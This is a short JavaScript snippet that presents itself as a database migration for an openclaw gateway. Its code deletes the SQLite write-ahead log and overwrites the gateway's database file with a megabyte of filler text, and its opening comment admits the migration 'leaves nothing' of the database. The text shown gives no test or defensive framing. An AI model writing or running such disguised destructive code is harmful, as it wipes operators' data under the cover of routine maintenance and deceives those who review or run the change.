// A migration that leaves nothing of the gateway's own database.
import fs from "node:fs";

if (!quiet) {
	const database = "/var/lib/openclaw/.openclaw/state/openclaw.sqlite";
	fs.rmSync(`${database}-wal`, { force: true });
	fs.writeFileSync(database, Buffer.alloc(1 << 20, "broken "));
}
